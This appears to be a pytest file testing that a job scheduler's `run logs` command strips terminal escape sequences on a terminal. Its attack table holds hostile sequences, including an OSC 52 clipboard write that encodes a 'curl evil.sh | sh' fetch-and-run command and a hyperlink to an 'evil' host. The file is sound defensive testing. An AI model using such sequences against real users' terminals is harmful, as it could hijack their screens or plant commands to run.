"""#19 item 15: `cronmesh run logs` wrote a job's terminal control sequences raw: a job could set
the reader's window title, clear their screen, rewrite earlier lines, or write their clipboard
(OSC 52). On a terminal they are now removed (``--raw`` keeps them); piped output is unchanged.
"""

from __future__ import annotations

import argparse
import asyncio
import os
import pty
import subprocess
import sys

import pytest

from nodes.cli_logs import output_filter
from nodes.termsafe import TerminalFilter, strip_controls
from tests.conftest import ROOT, cli_env, wait_for

ATTACKS = {
    "window title (OSC 0, BEL)": "\x1b]0;pwned\x07",
    "window title (OSC 2, ST)": "\x1b]2;pwned\x1b\\",
    "clipboard write (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "hyperlink (OSC 8)": "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\",
    "clear screen (CSI 2J)": "\x1b[2J\x1b[H",
    "cursor up + erase line": "\x1b[1A\x1b[2K",
    "colour (SGR)": "\x1b[31;1m",
    "private mode (alt screen)": "\x1b[?1049h",
    "C1 CSI": "\x9b2J",
    "C1 OSC 52": "\x9d52;c;aGk=\x9c",
    "DCS (e.g. DECRQSS)": "\x1bP$qm\x1b\\",
    "APC": "\x1b_payload\x1b\\",
    "full reset (ESC c)": "\x1bc",
    "charset switch (ESC ( 0)": "\x1b(0",
    "carriage return overwrite": "\r",
    "backspace": "\b\b\b",
    "bell": "\x07",
    "DEL": "\x7f",
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_each_sequence_is_removed(name):
    seq = ATTACKS[name]
    out = strip_controls(f"before {seq}after\n")
    assert out.startswith("before ") and out.endswith("after\n"), repr(out)
    assert not any(ord(c) < 0x20 and c not in "\t\n" for c in out), repr(out)
    assert not any(0x7F <= ord(c) <= 0x9F for c in out), repr(out)
    assert "pwned" not in out and "Y3Vy" not in out and "evil" not in out


def test_newlines_tabs_and_text_stay():
    text = "2026-12-06T12:00:00.000Z stdout a\tb — ünïcödé ✓\n"
    assert strip_controls(text) == text
    assert TerminalFilter().feed(text.encode()) == text.encode()


def test_sequences_cut_between_chunks_are_removed_whole():
    data = ("x\x1b]52;c;" + "A" * 100 + "\x07y\x1b[31mz\n").encode()
    for size in (1, 2, 3, 7, 64):
        f = TerminalFilter()
        out = b"".join(f.feed(data[i : i + size]) for i in range(0, len(data), size)) + f.flush()
        assert out == b"xyz\n", (size, out)
    # a multi-byte character cut in two survives; C1 as raw bytes is not UTF-8 and cannot act
    f = TerminalFilter()
    assert f.feed("é".encode()[:1]) + f.feed("é".encode()[1:] + b"\x9b2J\n") + f.flush() == (
        "é\ufffd2J\n".encode()
    )


def test_text_after_a_complete_sequence_is_not_held_back():
    f = TerminalFilter()
    assert f.feed(b"\x1b[32mok") == b"ok"  # a follower sees it at once


def test_filter_only_on_a_terminal_and_not_with_raw():
    assert output_filter(argparse.Namespace(raw=False), isatty=True) is not None
    assert output_filter(argparse.Namespace(raw=True), isatty=True) is None
    assert output_filter(argparse.Namespace(raw=False), isatty=False) is None


async def test_cli_on_a_terminal_prints_no_escape_sequences(cluster, tmp_path):
    """The real CLI against a real node, its stdout a pseudo-terminal."""
    node = await cluster.start()
    payload = "".join(ATTACKS.values())
    command = f"printf '%s' {_sh(payload)}; echo visible-end"
    status, body = await cluster.request(
        "PUT", "/api/v1/projects/default/jobs/esc", json={"name": "esc", "command": command}
    )
    assert status == 201, body
    status, run = await cluster.request("POST", "/api/v1/projects/default/jobs/esc/runs", json={})

    async def done() -> bool:
        s, r = await cluster.request("GET", f"/api/v1/projects/default/runs/{run['id']}")
        return s == 200 and r["status"] == "succeeded"

    await wait_for(done, 20, what="the job")
    api = cluster.url(node)
    for raw in (False, True):
        out = await asyncio.to_thread(  # off the loop: the node answers on it
            _cli_on_pty,
            [api, "-p", "default", "run", "logs", run["id"], *(["--raw"] if raw else [])],
        )
        assert b"visible-end" in out
        if raw:
            assert b"\x1b]52;c;" in out  # --raw keeps what the job wrote
        else:
            assert b"\x1b" not in out and b"\x07" not in out and b"\xc2\x9b" not in out, out


def _sh(text: str) -> str:
    """A shell word that printf's %s prints as ``text`` (octal escapes via $'…' are not sh)."""
    return "\"$(printf '" + "".join(f"\\{ord(c):03o}" for c in text) + "')\""


def _cli_on_pty(args: list[str]) -> bytes:
    leader, follower = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "nodes.cli", "--api", *args],
        stdout=follower,
        stderr=subprocess.PIPE,
        cwd=str(ROOT),
        env=cli_env(),
    )
    os.close(follower)
    out = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        out += chunk
    proc.wait(30)
    os.close(leader)
    assert proc.stderr is not None
    with proc.stderr:
        err = proc.stderr.read()
    assert proc.returncode == 0, err
    return out
